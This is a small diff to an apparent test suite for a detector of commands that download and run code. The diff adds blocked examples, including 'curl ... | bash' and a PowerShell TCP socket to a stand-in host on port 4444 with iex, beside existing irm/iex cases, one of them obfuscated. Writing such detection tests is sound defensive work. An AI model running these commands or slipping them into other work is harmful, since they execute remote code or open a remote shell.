@@ -16,6 +16,8 @@ describe("code from the network", () => {
       "$c = (iwr https://x.example/i.ps1).Content; Invoke-Expression $c",
       'powershell -c "irm https://x.example/i.ps1 | iex"',
       "i`ex (irm https://x.example/i.ps1)",
+      "curl https://x.example/i.sh | bash",
+      "$c = New-Object System.Net.Sockets.TCPClient('x.example', 4444); iex $d",
     ],
     passed: [
       "irm https://x.example/api | ConvertTo-Json",
